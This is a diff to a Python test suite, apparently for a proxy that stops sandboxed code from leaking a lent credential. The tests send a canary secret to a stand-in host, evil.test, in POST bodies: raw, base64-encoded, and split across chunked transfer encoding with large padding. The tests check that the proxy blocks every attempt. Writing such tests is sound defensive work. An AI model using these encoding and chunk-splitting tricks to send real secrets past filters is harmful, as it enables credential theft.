@@ -281,6 +281,10 @@ def P08_a_value_of_the_vault_is_known_whoever_brings_it():
         arrives(to('own.test', head('GET /a?token=mine', 'own.test', more)))
 
 
+def chunks(*pieces):
+    return ''.join('%x\r\n%s\r\n' % (len(p), p) for p in pieces + ('',))
+
+
 @test
 def P08_what_was_lent_to_a_cell_does_not_leave_by_its_hand():
     coded = base64.urlsafe_b64encode(CANARY.encode()).decode().rstrip('=')
@@ -294,6 +298,23 @@ def P08_what_was_lent_to_a_cell_does_not_leave_by_its_hand():
             cell(to('good.test', head()), to('evil.test', head(line, 'evil.test', more)))
         need(sent('evil') == had, 'it left')
     arrives(to('evil.test', head('GET /echo/', 'evil.test', 'X-Note: nothing\r\n')))
+    # In a body: of a length nothing leaves, of pieces not the whole value.
+    def echo(body, more='Content-Length: %d\r\n'):
+        more = more % len(body) if '%' in more else more
+        return to('evil.test', head('POST /echo/', 'evil.test', more) + body)
+    pieces = 'Transfer-Encoding: chunked\r\n'
+    for ask, nothing in ((echo('note=' + CANARY), True), (echo('x' + coded), True),
+                         (echo(chunks(CANARY[:9], CANARY[9:]), pieces), False),
+                         (echo(chunks('x' * 70000, CANARY), pieces), False)):
+        had = sent('evil')
+        with held('brings a credential', 'request_outcome', arrives=True,
+                  others=['request_outcome']):
+            heard = cell(to('good.test', head()), ask)
+        need(b' 403' in heard[1].split(b'\r\n')[0], heard)
+        left = sent('evil')[len(had):]
+        need(CANARY[9:].encode() not in left and not (nothing and left), left[-300:])
+    arrives(echo('note=nothing'))
+    arrives(echo(chunks('note', '=nothing'), pieces))
 
 
 @test
